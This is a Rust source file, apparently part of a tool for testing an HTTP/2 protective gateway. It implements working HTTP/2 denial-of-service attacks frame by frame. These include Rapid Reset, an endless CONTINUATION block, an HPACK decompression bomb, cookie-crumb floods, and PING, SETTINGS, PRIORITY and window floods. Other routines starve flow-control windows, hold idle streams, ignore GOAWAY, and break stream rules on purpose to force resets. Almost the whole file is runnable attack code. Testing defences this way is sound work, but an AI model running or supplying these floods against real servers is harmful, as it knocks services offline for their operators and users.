//! Vectors of HTTP/2, frame by frame.

use std::cell::{Cell, RefCell};
use std::collections::BTreeSet;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::sync::Notify;
use tokio::time::{Instant, timeout, timeout_at};

use super::context::{Attacker, End, bounded_sleep};
use super::dial::ClientStream;
use super::frames::{
    self, ACK, CONTINUATION, DATA, END_STREAM, FrameBatch, GOAWAY, HEADERS, HpackBlock, PING,
    PRIORITY, RST_STREAM, SETTINGS,
};

/// Frames that are sent in one go, and the pause before the next: three thousand a second, ten
/// times what a legitimate visitor could send.
const BATCH: u32 = 60;
const PAUSE: Duration = Duration::from_millis(20);

/// How long to wait for the gate's last word after it has stopped reading.
const LAST_READ_TIMEOUT: Duration = Duration::from_millis(500);

/// The longest frame that is read: the default of `SETTINGS_MAX_FRAME_SIZE`, which we never raise.
const FRAME_MAX: usize = 16_384;

const CANCEL: u32 = 0x8;

/// What the reader of a connection has seen.
#[derive(Default)]
struct ReaderState {
    go_away: Cell<Option<u32>>,
    closed: Cell<bool>,
    ended: Notify,
    /// Acknowledgements that are owed: of settings, and of pings with their content.
    pending_settings_acks: Cell<u32>,
    pending_pings: RefCell<Vec<[u8; 8]>>,
    /// Streams that the gate has answered in full, or reset.
    ended_streams: RefCell<BTreeSet<u32>>,
    /// Something is owed, or a stream is over.
    changed: Notify,
}

/// Streams that are remembered as over: ten times what any server allows concurrently.
const ENDED_STREAMS_MAX: usize = 1_000;

/// One connection: we write here, a separate task reads.
struct Http2Client {
    attacker: Attacker,
    writer: WriteHalf<ClientStream>,
    state: Rc<ReaderState>,
    next_stream: u32,
    /// Pings are not answered.
    ignores_pings: bool,
}

impl Http2Client {
    /// Opens a connection and sends the preface.
    async fn open(attacker: &Attacker, settings: &[(u16, u32)]) -> Result<Self, End> {
        let mut client = Self::open_silently(attacker).await?;
        let mut first_frames = FrameBatch::default();
        first_frames.bytes.extend(frames::PREFACE);
        let mut all = vec![(frames::TABLE_SIZE, 0)];
        all.extend(settings);
        first_frames.settings(&all);
        client.send(first_frames).await?;
        Ok(client)
    }

    async fn open_silently(attacker: &Attacker) -> Result<Self, End> {
        let stream = attacker.open_http_2().await.ok_or(End::NotOpened)?;
        if !stream.is_http_2() {
            attacker.count_response("no HTTP/2");
            return Err(End::NotOpened);
        }
        let (reader, writer) = tokio::io::split(stream);
        let state = Rc::<ReaderState>::default();
        tokio::task::spawn_local(read(attacker.clone(), reader, state.clone()));
        Ok(Self { attacker: attacker.clone(), writer, state, next_stream: 1, ignores_pings: false })
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        stream
    }

    fn get(&self) -> HpackBlock {
        HpackBlock::request("GET", self.attacker.host(), self.attacker.path())
    }

    fn post(&self) -> HpackBlock {
        HpackBlock::request("POST", self.attacker.host(), self.attacker.path())
    }

    /// Sends frames, with the acknowledgements that are owed.
    async fn send(&mut self, mut frames: FrameBatch) -> Result<(), End> {
        for _ in 0..self.state.pending_settings_acks.replace(0) {
            frames.frame(SETTINGS, ACK, 0, &[]);
        }
        let pings = self.state.pending_pings.take();
        for content in pings.into_iter().filter(|_| !self.ignores_pings) {
            frames.frame(PING, ACK, 0, &content);
        }
        let writing = async {
            self.writer.write_all(&frames.bytes).await?;
            self.writer.flush().await
        };
        match timeout_at(self.attacker.end(), writing).await {
            Ok(Ok(())) => {
                self.attacker.count_frames(frames.count);
                self.attacker.count_bytes(frames.bytes.len());
                if self.state.closed.get() { Err(self.end_reason().await) } else { Ok(()) }
            }
            Ok(Err(_)) => Err(self.end_reason().await),
            Err(_) => Err(End::Held),
        }
    }

    /// How the gate ended it.
    async fn end_reason(&self) -> End {
        if !self.state.closed.get() {
            let _ = timeout(LAST_READ_TIMEOUT, self.state.ended.notified()).await;
        }
        self.state.go_away.get().map_or(End::Closed, End::GoAway)
    }

    /// Answers what must be answered and does nothing else, until the end or the gate's end.
    async fn hold(&mut self) -> End {
        self.hold_until(|_| false).await
    }

    /// The same, but no longer than the gate lets one of the streams live. What is held from then
    /// on is a connection without streams, which is another vector.
    async fn hold_streams(&mut self) -> End {
        self.hold_until(Self::streams_ended).await
    }

    fn streams_ended(&self) -> bool {
        self.state.ended_streams.borrow().len() >= self.next_stream as usize / 2
    }

    async fn hold_until(&mut self, is_over: impl Fn(&Self) -> bool) -> End {
        while !self.state.closed.get() {
            if Instant::now() >= self.attacker.end() {
                return End::Held;
            }
            if is_over(self) {
                return End::StreamsEnded;
            }
            let change = async {
                tokio::select! {
                    () = self.state.ended.notified() => {}
                    () = self.state.changed.notified() => {}
                }
            };
            let _ = timeout_at(self.attacker.end(), change).await;
            if !self.state.closed.get()
                && let Err(end) = self.send(FrameBatch::default()).await
            {
                return end;
            }
        }
        self.end_reason().await
    }

    /// Sends batch after batch until the gate closes or a budget is used up.
    async fn flood(&mut self, mut batch: impl FnMut(&mut Self, &mut FrameBatch)) -> End {
        while self.attacker.may_continue() {
            let mut frames = FrameBatch::default();
            batch(self, &mut frames);
            if let Err(end) = self.send(frames).await {
                return end;
            }
            bounded_sleep(&self.attacker, PAUSE).await;
            // Stream numbers are not endless (RFC 9113, section 5.1.1).
            if self.next_stream > 1 << 30 {
                return End::Finished;
            }
        }
        End::Held
    }
}

/// Reads frames until the end of the connection.
async fn read(attacker: Attacker, mut reader: ReadHalf<ClientStream>, state: Rc<ReaderState>) {
    let reading = async {
        let mut payload = vec![0; FRAME_MAX];
        loop {
            let mut head = [0; 9];
            reader.read_exact(&mut head).await?;
            let length =
                usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let Some(payload) = payload.get_mut(..length) else {
                return Err(std::io::ErrorKind::InvalidData.into());
            };
            reader.read_exact(payload).await?;
            let ends = head[3] == RST_STREAM
                || matches!(head[3], HEADERS | DATA) && head[4] & END_STREAM != 0;
            if ends && state.ended_streams.borrow().len() < ENDED_STREAMS_MAX {
                let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
                state.ended_streams.borrow_mut().insert(stream);
                state.changed.notify_one();
            }
            match (head[3], payload.get(..4)) {
                (SETTINGS, _) if head[4] & ACK == 0 => {
                    state
                        .pending_settings_acks
                        .set(state.pending_settings_acks.get().saturating_add(1));
                    state.changed.notify_one();
                }
                // A gate that asks more often than we answer is not believed.
                (PING, _) if head[4] & ACK == 0 && state.pending_pings.borrow().len() < 16 => {
                    let mut content = [0; 8];
                    content.copy_from_slice(payload.get(..8).unwrap_or(&[0; 8]));
                    state.pending_pings.borrow_mut().push(content);
                    state.changed.notify_one();
                }
                (HEADERS, _) => match frames::status(payload) {
                    Some(status) => attacker.count_response(status),
                    None => attacker.count_response("an answer"),
                },
                (RST_STREAM, Some(&[a, b, c, d])) => {
                    attacker.count_reset(u32::from_be_bytes([a, b, c, d]));
                }
                (GOAWAY, Some(_)) if length >= 8 => {
                    let code = [payload[4], payload[5], payload[6], payload[7]];
                    state.go_away.set(Some(u32::from_be_bytes(code)));
                }
                _ => {}
            }
        }
    };
    let _: Result<(), std::io::Error> = reading.await;
    state.closed.set(true);
    state.ended.notify_one();
}

/// Unwraps the end of a conversation that ended early.
macro_rules! or_end {
    ($result:expr) => {
        match $result {
            Ok(value) => value,
            Err(end) => return end,
        }
    };
}

/// Agrees on HTTP/2 and sends nothing, not even the preface.
pub(super) async fn preface_silence(attacker: Attacker) -> End {
    let client = or_end!(Http2Client::open_silently(&attacker).await);
    match timeout_at(attacker.end(), client.state.ended.notified()).await {
        Ok(()) => client.end_reason().await,
        Err(_) => End::Held,
    }
}

pub(super) async fn without_streams(attacker: Attacker) -> End {
    or_end!(Http2Client::open(&attacker, &[]).await).hold().await
}

/// The number of streams that any server allows, each a form that never arrives.
pub(super) async fn idle_streams(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let mut frames = FrameBatch::default();
    let block = client.post();
    for _ in 0..100 {
        let stream = client.stream();
        frames.headers(stream, &block, false);
    }
    attacker.count_requests(100);
    or_end!(client.send(frames).await);
    client.hold_streams().await
}

/// Streams that an attacker has open at the same time: half of what any server allows.
const CONCURRENT_STREAMS: usize = 50;

/// Sends a request after each response, ignores GOAWAY, and never acknowledges the ping by which
/// the gate would know that its GOAWAY has arrived.
pub(super) async fn ignore_goaway(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    client.ignores_pings = true;
    let block = client.get();
    // A window for all responses of a connection, some kilobytes each.
    let mut window = FrameBatch::default();
    window.window_update(0, 1 << 30);
    or_end!(client.send(window).await);
    while attacker.may_continue() {
        let mut frames = FrameBatch::default();
        for _ in 0..CONCURRENT_STREAMS {
            let stream = client.stream();
            frames.headers(stream, &block, true);
        }
        attacker.count_requests(CONCURRENT_STREAMS as u64);
        or_end!(client.send(frames).await);
        let batch =
            |client: &Http2Client| client.state.ended_streams.borrow().len() >= CONCURRENT_STREAMS;
        match client.hold_until(batch).await {
            End::StreamsEnded => client.state.ended_streams.borrow_mut().clear(),
            end => return end,
        }
    }
    End::Held
}

/// Requests pages and never opens its window for them.
pub(super) async fn zero_window(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[(frames::WINDOW_SIZE, 0)]).await);
    let mut frames = FrameBatch::default();
    let block = client.get();
    for _ in 0..20 {
        let stream = client.stream();
        frames.headers(stream, &block, true);
    }
    attacker.count_requests(20);
    or_end!(client.send(frames).await);
    client.hold_streams().await
}

/// A window of one byte more, a few times a second.
pub(super) async fn window_drip(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[(frames::WINDOW_SIZE, 0)]).await);
    let mut frames = FrameBatch::default();
    let block = client.get();
    let streams: Vec<u32> = (0..4).map(|_| client.stream()).collect();
    for stream in &streams {
        frames.headers(*stream, &block, true);
    }
    attacker.count_requests(4);
    or_end!(client.send(frames).await);
    while attacker.may_continue() {
        if client.streams_ended() {
            return End::StreamsEnded;
        }
        let mut frames = FrameBatch::default();
        for stream in &streams {
            frames.window_update(*stream, 1);
        }
        or_end!(client.send(frames).await);
        bounded_sleep(&attacker, Duration::from_millis(250)).await;
    }
    End::Held
}

pub(super) async fn window_flood(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    client
        .flood(|_, frames| {
            for _ in 0..BATCH {
                frames.window_update(0, 1);
            }
        })
        .await
}

pub(super) async fn rapid_reset(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let block = client.get();
    client
        .flood(|client, frames| {
            for _ in 0..BATCH / 2 {
                let stream = client.stream();
                frames.headers(stream, &block, true);
                frames.reset(stream, CANCEL);
            }
            client.attacker.count_requests(u64::from(BATCH / 2));
        })
        .await
}

/// Requests that are begun well and then break the rules of one stream, so that the gate has to
/// reset it, in five ways by place.
pub(super) async fn made_you_reset(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let way = attacker.slot % 5;
    let mut block = if way == 2 { client.get() } else { client.post() };
    if way == 3 {
        block.field("content-length", "5");
    }
    client
        .flood(|client, frames| {
            for _ in 0..BATCH / 3 {
                let stream = client.stream();
                frames.headers(stream, &block, way == 2);
                match way {
                    0 => frames.window_update(stream, 0),
                    1 => frames.window_update(stream, 0x7fff_ffff),
                    // The stream is half closed: nothing may follow.
                    2 => frames.frame(DATA, END_STREAM, stream, b"more"),
                    3 => frames.frame(DATA, END_STREAM, stream, b"1"),
                    // A stream that depends on itself.
                    _ => {
                        let [a, b, c, d] = stream.to_be_bytes();
                        frames.frame(PRIORITY, 0, stream, &[a, b, c, d, 16]);
                    }
                }
            }
            client.attacker.count_requests(u64::from(BATCH / 3));
        })
        .await
}

/// A header block that never ends: in empty frames, or in frames with fields, by position.
pub(super) async fn continuations(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let stream = client.stream();
    let mut first = FrameBatch::default();
    first.frame(HEADERS, END_STREAM, stream, &client.get().0);
    attacker.count_requests(1);
    or_end!(client.send(first).await);
    let mut block = HpackBlock::default();
    if !attacker.slot.is_multiple_of(2) {
        block.field("x-more", &"more".repeat(100));
    }
    client
        .flood(|_, frames| {
            for _ in 0..BATCH {
                frames.frame(CONTINUATION, 0, stream, &block.0);
            }
        })
        .await
}

pub(super) async fn pings(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    client
        .flood(|_, frames| {
            for _ in 0..BATCH {
                frames.frame(PING, 0, 0, b"how long");
            }
        })
        .await
}

pub(super) async fn settings(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    client
        .flood(|_, frames| {
            for _ in 0..BATCH {
                frames.settings(&[(frames::WINDOW_SIZE, 65_535)]);
            }
        })
        .await
}

pub(super) async fn priorities(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    client
        .flood(|_, frames| {
            for n in 0..BATCH {
                frames.frame(PRIORITY, 0, 1 + 2 * n, &[0, 0, 0, 0, n as u8]);
            }
        })
        .await
}

/// Data without content: a form of which nothing ever comes.
pub(super) async fn empty_data(attacker: Attacker) -> End {
    data(attacker, b"").await
}

/// Data of a byte a frame.
pub(super) async fn tiny_data(attacker: Attacker) -> End {
    data(attacker, b"a").await
}

async fn data(attacker: Attacker, content: &[u8]) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let stream = client.stream();
    let mut first = FrameBatch::default();
    first.headers(stream, &client.post(), false);
    attacker.count_requests(1);
    or_end!(client.send(first).await);
    client
        .flood(|_, frames| {
            for _ in 0..BATCH {
                frames.frame(DATA, 0, stream, content);
            }
        })
        .await
}

/// One large field that is remembered, and a byte for each time that it is meant again: 4 kB times
/// ten thousand are 40 MB, out of 14 kB.
pub(super) async fn hpack_bomb(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let get = client.get();
    client
        .flood(|client, frames| {
            let stream = client.stream();
            let mut block = get.clone();
            // The table's default size is 4096 bytes, with 32 for each entry.
            block.indexed_field("x-a", &"a".repeat(4_000)).repeat_last(10_000);
            frames.headers(stream, &block, true);
            client.attacker.count_requests(1);
        })
        .await
}

/// A cookie in three thousand crumbs (RFC 9113, section 8.2.3).
pub(super) async fn cookie_crumbs(attacker: Attacker) -> End {
    let mut client = or_end!(Http2Client::open(&attacker, &[]).await);
    let get = client.get();
    client
        .flood(|client, frames| {
            let stream = client.stream();
            let mut block = get.clone();
            block.indexed_field("cookie", "a=b").repeat_last(3_000);
            frames.headers(stream, &block, true);
            client.attacker.count_requests(1);
        })
        .await
}
